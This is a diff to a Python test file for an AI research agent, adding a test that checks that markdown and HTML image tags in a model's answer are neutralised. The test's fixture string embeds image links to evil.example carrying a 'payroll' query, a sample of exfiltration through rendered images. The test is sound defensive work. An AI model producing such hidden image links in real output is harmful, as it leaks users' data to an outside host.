@@ -16,6 +16,7 @@ import pytest
 from mcp import Client, StdioServerParameters
 
 from rubricem import research
+from rubricem.agent.reports.report import alive
 from rubricem.agent.settings import load_settings
 from rubricem.agent.transcript.events import Event, ToolCalled
 from rubricem.memory.runs import RunStore
@@ -97,6 +98,15 @@ async def test_a_program_researches_with_progress_and_checked_citations(here: Pa
     assert messages[0] == "stage: plan"
     assert "call 1: folder: lru_cache maxsize None" in messages
     assert messages[-1] is not None
+
+
+async def test_no_picture_of_an_answer_is_drawn_by_a_client(here: Path):
+    hidden = "![x](https://evil.example/?q=payroll) <img src=https://evil.example/2>"
+    script = [plan(), answer(f'<cite id="S1">It is unbounded.</cite> {hidden}'), SUPPORTED]
+    async with program(here, script) as client:
+        found = await asked(client, "research", question=QUESTION)
+    for told in (found["answer"], found["report"]):
+        assert "evil.example" in told and not alive(told)
 
 
 async def test_what_fails_is_the_tools_error_in_a_sentence(here: Path):
